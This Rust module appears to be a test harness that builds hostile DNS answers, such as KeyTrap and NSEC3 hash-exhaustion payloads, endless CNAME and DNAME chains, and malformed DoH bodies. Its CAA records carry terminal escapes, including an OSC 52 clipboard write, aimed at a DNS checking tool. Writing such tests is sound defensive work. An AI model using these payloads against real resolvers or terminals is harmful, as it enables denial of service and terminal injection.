//! The attacks of the issue "Bounded work on hostile answers", each a handler over the
//! synthetic world (`World::standard`: the root signed with seed 1, `example.` with seed 2,
//! `unsigned.` not signed) and the CLI invocation that meets it. Every answer not attacked is
//! the world's honest one.

use std::sync::Mutex;

use super::dns::{
    bogus_rrsig, colliding_dnskey, is_below, label_count, wire, Msg, Rec, Rng, Signer, A, CAA,
    CNAME, DNAME, DNSKEY, MAX_MESSAGE, NOERROR, NSEC3, NXDOMAIN, SOA, YXDOMAIN,
};
use super::server::{Query, Reply};
use super::Attack;
use crate::signed_world::{base32hex, World};

/// The honest world behind every attack.
pub struct Honest(Mutex<World>);

impl Honest {
    pub fn new() -> Honest {
        Honest(Mutex::new(World::standard(0)))
    }

    pub fn message(&self, name: &str, qtype: u16) -> Msg {
        Msg::parse(&self.bytes(name, qtype)).expect("the world's answers are messages")
    }

    pub fn bytes(&self, name: &str, qtype: u16) -> Vec<u8> {
        self.0.lock().unwrap().respond(name, qtype)
    }

    pub fn reply(&self, query: &Query) -> Reply {
        Reply::Dns(self.bytes(&query.name, query.qtype))
    }
}

/// `n0.example` … : names that do not exist in the world (NXDOMAIN with an NSEC3 proof).
pub fn numbered(count: usize) -> Vec<String> {
    (0..count).map(|i| format!("n{i}.example")).collect()
}

/// How many records of `sample`'s size still fit in `msg`, whose owner is already written
/// (so each one is compressed to a 2-byte pointer).
fn room_for(msg: &Msg, sample: &Rec) -> usize {
    let each = 2 + 10 + sample.rdata.len();
    (MAX_MESSAGE - msg.encode().len()) / each
}

fn example() -> Signer {
    Signer::new("example.", 2)
}

fn root() -> Signer {
    Signer::new(".", 1)
}

/// The message must be a possible DNS message: the attack is the largest one that fits.
fn fitted(msg: &Msg) -> Vec<u8> {
    let bytes = msg.encode();
    assert!(bytes.len() <= MAX_MESSAGE, "{} bytes", bytes.len());
    bytes
}

// --- KeyTrap (CVE-2023-50387) -----------------------------------------------------------------

/// `example.`'s key set replaced by `keys` DNSKEYs that all have the key tag (and algorithm)
/// of its DS, and as many RRSIGs over them naming that tag as fit in the message; the
/// genuine key is not there.
pub fn keytrap_key_set(keys: usize) -> Attack {
    let signer = example();
    let mut rng = Rng::new(1);
    let mut msg = Msg::response("example.", DNSKEY, NOERROR);
    for _ in 0..keys {
        msg.answer.push(Rec::new(
            "example.",
            DNSKEY,
            colliding_dnskey(&mut rng, signer.tag),
        ));
    }
    let sample = bogus_rrsig(&mut rng, "example.", DNSKEY, signer.tag, "example.");
    for _ in 0..room_for(&msg, &sample) {
        msg.answer.push(bogus_rrsig(
            &mut rng, "example.", DNSKEY, signer.tag, "example.",
        ));
    }
    let signatures = msg.answer.len() - keys;
    let answer = fitted(&msg);
    let honest = Honest::new();
    Attack::new(
        format!("KeyTrap key set: {keys} keys of one tag x {signatures} RRSIGs"),
        "check",
        vec!["www.example".into()],
        move |q| match (q.name.as_str(), q.qtype) {
            ("example.", DNSKEY) => Reply::Dns(answer.clone()),
            _ => honest.reply(q),
        },
    )
}

/// `example.`'s genuine key first, then `colliding` keys of its tag, then `bogus` RRSIGs
/// naming that tag, and only then the genuine RRSIG over the whole set.
pub fn keytrap_genuine_signature_last(colliding: usize, bogus: usize) -> Attack {
    let signer = example();
    let mut rng = Rng::new(2);
    let mut keys = vec![signer.dnskey.clone()];
    keys.extend((0..colliding).map(|_| colliding_dnskey(&mut rng, signer.tag)));
    let mut msg = Msg::response("example.", DNSKEY, NOERROR);
    msg.answer
        .extend(keys.iter().map(|k| Rec::new("example.", DNSKEY, k.clone())));
    for _ in 0..bogus {
        msg.answer.push(bogus_rrsig(
            &mut rng, "example.", DNSKEY, signer.tag, "example.",
        ));
    }
    msg.answer.push(signer.rrsig("example.", DNSKEY, &keys));
    let answer = fitted(&msg);
    let honest = Honest::new();
    Attack::new(
        format!("KeyTrap: genuine key + {colliding} of its tag, genuine RRSIG after {bogus} bogus"),
        "check",
        vec!["www.example".into()],
        move |q| match (q.name.as_str(), q.qtype) {
            ("example.", DNSKEY) => Reply::Dns(answer.clone()),
            _ => honest.reply(q),
        },
    )
}

/// The KeyTrap of the issue: `example.`'s key set holds the genuine key (first, so the DS
/// matches and the set validates) and `colliding` keys of the same tag; the answer for
/// `www.example/A` carries as many bogus RRSIGs naming that tag as fit.
pub fn keytrap_data(colliding: usize) -> Attack {
    let signer = example();
    let mut rng = Rng::new(3);
    let mut keys = vec![signer.dnskey.clone()];
    keys.extend((0..colliding).map(|_| colliding_dnskey(&mut rng, signer.tag)));
    let mut key_set = Msg::response("example.", DNSKEY, NOERROR);
    key_set
        .answer
        .extend(keys.iter().map(|k| Rec::new("example.", DNSKEY, k.clone())));
    key_set.answer.push(signer.rrsig("example.", DNSKEY, &keys));
    let key_set = fitted(&key_set);

    let mut data = Msg::response("www.example.", A, NOERROR);
    data.answer
        .push(Rec::new("www.example.", A, vec![192, 0, 2, 1]));
    let sample = bogus_rrsig(&mut rng, "www.example.", A, signer.tag, "example.");
    let signatures = room_for(&data, &sample);
    for _ in 0..signatures {
        data.answer.push(bogus_rrsig(
            &mut rng,
            "www.example.",
            A,
            signer.tag,
            "example.",
        ));
    }
    let data = fitted(&data);
    let honest = Honest::new();
    Attack::new(
        format!(
            "KeyTrap: {} keys of one tag x {signatures} RRSIGs",
            colliding + 1
        ),
        "check",
        vec!["www.example".into()],
        move |q| match (q.name.as_str(), q.qtype) {
            ("example.", DNSKEY) => Reply::Dns(key_set.clone()),
            ("www.example.", A) => Reply::Dns(data.clone()),
            _ => honest.reply(q),
        },
    )
}

// --- Bogus signatures beside a genuine key set, for many names ------------------------------

/// The root's genuine key set and RRSIG with `bogus` more RRSIGs naming the root key's tag,
/// before the genuine one or after it, for a check of `names` names.
pub fn bogus_root_signatures(bogus: usize, names: usize, bogus_first: bool) -> Attack {
    let honest = Honest::new();
    let signer = root();
    let mut rng = Rng::new(4);
    let mut msg = honest.message(".", DNSKEY);
    let genuine: Vec<Rec> = msg.answer.drain(..).collect();
    let (keys, signatures): (Vec<Rec>, Vec<Rec>) =
        genuine.into_iter().partition(|r| r.rtype == DNSKEY);
    let fakes: Vec<Rec> = (0..bogus)
        .map(|_| bogus_rrsig(&mut rng, ".", DNSKEY, signer.tag, "."))
        .collect();
    msg.answer.extend(keys);
    if bogus_first {
        msg.answer.extend(fakes);
        msg.answer.extend(signatures);
    } else {
        msg.answer.extend(signatures);
        msg.answer.extend(fakes);
    }
    let answer = fitted(&msg);
    Attack::new(
        format!(
            "{bogus} bogus RRSIGs {} the root's genuine one x {names} names",
            if bogus_first { "before" } else { "after" }
        ),
        "check",
        numbered(names),
        move |q| match (q.name.as_str(), q.qtype) {
            (".", DNSKEY) => Reply::Dns(answer.clone()),
            _ => honest.reply(q),
        },
    )
}

// --- NSEC3 hash exhaustion (CVE-2023-50868) ---------------------------------------------------

/// The longest name below `example.`: 123 one-letter labels (255 octets on the wire).
pub fn longest_name() -> String {
    let name = "x.".repeat(123) + "example";
    assert_eq!(wire(&name).len(), 255);
    name
}

/// The next 20-byte value: an NSEC3 interval from a hash to this one covers no hash.
fn successor(hash: &[u8]) -> Vec<u8> {
    let mut next = hash.to_vec();
    for byte in next.iter_mut().rev() {
        *byte = byte.wrapping_add(1);
        if *byte != 0 {
            break;
        }
    }
    next
}

/// Every name below `example.` is NXDOMAIN with `records` NSEC3 records at `iterations`
/// iterations with 255-byte salts (`salts` different ones, the records dealt out in turn),
/// each validly signed by `example.`'s key, none of which matches or covers anything: a
/// validator hashes every ancestor of the name looking for a closest encloser, in vain.
pub fn nsec3_exhaustion(records: usize, iterations: u16, salts: usize) -> Attack {
    let signer = example();
    let honest = Honest::new();
    let mut rng = Rng::new(5);
    let salts: Vec<Vec<u8>> = (0..salts).map(|_| rng.bytes(255)).collect();
    let soa: Vec<Rec> = honest
        .message("example.", SOA)
        .answer
        .into_iter()
        .filter(|r| r.rtype == SOA || r.covered() == Some(SOA))
        .collect();
    let mut denial = soa;
    for i in 0..records {
        let hash = rng.bytes(20);
        let salt = &salts[i % salts.len()];
        let mut rdata = vec![1, 0];
        rdata.extend(iterations.to_be_bytes());
        rdata.push(salt.len() as u8);
        rdata.extend(salt);
        rdata.push(20);
        rdata.extend(successor(&hash));
        // Type bit map: A and RRSIG.
        rdata.extend([0, 6, 0x40, 0, 0, 0, 0, 0x02]);
        let owner = format!("{}.example.", base32hex(&hash));
        denial.extend(signer.signed(&owner, NSEC3, &[rdata]));
    }
    let name = longest_name();
    let mut probe = Msg::response(&format!("{name}."), A, NXDOMAIN);
    probe.authority = denial.clone();
    fitted(&probe);
    Attack::new(
        format!(
            "NSEC3: {} labels x {records} records x {iterations} iterations, {} salt{}",
            label_count(&name),
            salts.len(),
            if salts.len() == 1 { "" } else { "s" }
        ),
        "check",
        vec![name],
        move |q| {
            if !is_below(&q.name, "example.") {
                return honest.reply(q);
            }
            let mut msg = Msg::response(&q.name, q.qtype, NXDOMAIN);
            msg.authority = denial.clone();
            Reply::Dns(msg.encode())
        },
    )
}

// --- Alias chains -----------------------------------------------------------------------------

/// Every name below `zone` is a CNAME to a fresh random name in the same zone, `per_answer`
/// of them at once (one RRset), signed when the zone is `example.`; whatever type is asked
/// (DS and DNSKEY included), the resolver answers with the CNAME, as for any alias.
fn cnames(zone: &'static str, per_answer: usize, seed: u64) -> impl Fn(&Query) -> Reply {
    let honest = Honest::new();
    let signer = (zone == "example.").then(example);
    let rng = Mutex::new(Rng::new(seed));
    move |q| {
        if !is_below(&q.name, zone) {
            return honest.reply(q);
        }
        let targets: Vec<Vec<u8>> = {
            let mut rng = rng.lock().unwrap();
            (0..per_answer)
                .map(|_| wire(&format!("{}.{zone}", rng.label())))
                .collect()
        };
        let mut msg = Msg::response(&q.name, q.qtype, NOERROR);
        match &signer {
            Some(signer) => msg.answer = signer.signed(&q.name, CNAME, &targets),
            None => msg
                .answer
                .extend(targets.into_iter().map(|t| Rec::new(&q.name, CNAME, t))),
        }
        Reply::Dns(msg.encode())
    }
}

/// An endless CNAME chain: each answer points to a name never seen before.
pub fn endless_cname(signed: bool) -> Attack {
    let (zone, name) = if signed {
        ("example.", "start.example")
    } else {
        ("unsigned.", "start.unsigned")
    };
    Attack::new(
        format!(
            "endless CNAME chain ({})",
            if signed { "signed" } else { "unsigned zone" }
        ),
        "check",
        vec![name.into()],
        cnames(zone, 1, 6),
    )
}

/// Ten CNAMEs per answer, each to a fresh name, for `names` names.
pub fn ten_cnames(names: usize) -> Attack {
    Attack::new(
        format!("10 CNAMEs per answer x {names} names"),
        "check",
        numbered(names),
        cnames("example.", 10, 7),
    )
}

/// `example. DNAME a.example.`: every name below `example.` is redirected one label deeper
/// (`www.example` → `www.a.example` → `www.a.a.example` …), the DNAME signed, the CNAME
/// synthesised from it unsigned (RFC 6672 §5.3.1), YXDOMAIN once the name would be too long.
pub fn dname_growth() -> Attack {
    let signer = example();
    let honest = Honest::new();
    let dname = signer.signed("example.", DNAME, &[wire("a.example.")]);
    Attack::new(
        "DNAME growth (example. DNAME a.example.)",
        "check",
        vec!["www.example".into()],
        move |q| {
            if !is_below(&q.name, "example.") {
                return honest.reply(q);
            }
            let prefix = &q.name[..q.name.len() - "example.".len()];
            let synthesized = format!("{prefix}a.example.");
            let mut msg = Msg::response(&q.name, q.qtype, NOERROR);
            msg.answer = dname.clone();
            if wire(&synthesized).len() > 255 {
                msg.set_rcode(YXDOMAIN);
            } else {
                msg.answer
                    .push(Rec::new(&q.name, CNAME, wire(&synthesized)));
            }
            Reply::Dns(msg.encode())
        },
    )
}

// --- Terminal control characters in CAA -------------------------------------------------------

/// An OSC 52 clipboard write (ESC … BEL), a C1 CSI (U+009B), a right-to-left override, and a
/// lone 0x9B byte: CAA tags and values are bytes, not text.
pub const CAA_VALUE: &[u8] =
    b"ca.example; x=\x1b]52;c;ZWNobyBwd25lZA==\x07\xc2\x9b31m\xe2\x80\xaeelpmaxe\x9b\x07";
pub const CAA_TAG: &[u8] = b"is\x1b[2Jsue\xe2\x80\xae";

fn caa_rdata(flags: u8, tag: &[u8], value: &[u8]) -> Vec<u8> {
    let mut out = vec![flags, tag.len() as u8];
    out.extend(tag);
    out.extend(value);
    out
}

/// `www.example` has a signed CAA RRset whose tags and values carry terminal controls.
pub fn caa_controls(command: &'static str) -> Attack {
    let signer = example();
    let honest = Honest::new();
    let rdatas = vec![
        caa_rdata(0, b"issue", CAA_VALUE),
        caa_rdata(0, CAA_TAG, b"\x1b]0;title\x07"),
        caa_rdata(128, b"tag\xc2\x9b", CAA_VALUE),
    ];
    let mut msg = Msg::response("www.example.", CAA, NOERROR);
    msg.answer = signer.signed("www.example.", CAA, &rdatas);
    let answer = msg.encode();
    let attack = Attack::new(
        format!("CAA with ESC, BEL, C1 and U+202E ({command}, text)"),
        command,
        vec!["www.example".into()],
        move |q| match (q.name.as_str(), q.qtype) {
            ("www.example.", CAA) => Reply::Dns(answer.clone()),
            _ => honest.reply(q),
        },
    );
    match command {
        "check" => attack.with(&["--type", "CAA"]),
        _ => attack,
    }
}

// --- DoH bodies that are not one DNS message --------------------------------------------------

/// The answer for `www.example/A` is a body of 70 000 bytes (the genuine message, then zeros),
/// with a Content-Length or delimited by closing the connection.
pub fn oversized_body(length: bool) -> Attack {
    let honest = Honest::new();
    Attack::new(
        format!(
            "70 000-byte DoH body ({})",
            if length {
                "Content-Length"
            } else {
                "until close"
            }
        ),
        "check",
        vec!["www.example".into()],
        move |q| match (q.name.as_str(), q.qtype) {
            ("www.example.", A) => {
                let mut body = honest.bytes(&q.name, q.qtype);
                body.resize(70_000, 0);
                Reply::Body { body, length }
            }
            _ => honest.reply(q),
        },
    )
}

/// The genuine answer for `www.example/A` followed by junk.
pub fn junk_after_message() -> Attack {
    let honest = Honest::new();
    Attack::new(
        "junk after the DNS message",
        "check",
        vec!["www.example".into()],
        move |q| match (q.name.as_str(), q.qtype) {
            ("www.example.", A) => {
                let mut body = honest.bytes(&q.name, q.qtype);
                body.extend(b"\x00\x00junk after the message");
                Reply::Dns(body)
            }
            _ => honest.reply(q),
        },
    )
    .with(&["--post"])
}

// --- Size of the request ----------------------------------------------------------------------

/// `names` names (honest answers): past the limit, nothing may be asked.
pub fn many_names(command: &'static str, names: usize) -> Attack {
    let honest = Honest::new();
    let list = numbered(names);
    let names = match command {
        // An order list as one argument, separated by commas as in an ?order= link.
        "order" => vec![list.join(",")],
        _ => list,
    };
    Attack::new(
        format!("{command} of {} names", names_len(&names)),
        command,
        names,
        move |q| honest.reply(q),
    )
}

fn names_len(names: &[String]) -> usize {
    names.iter().map(|n| n.split(',').count()).sum()
}
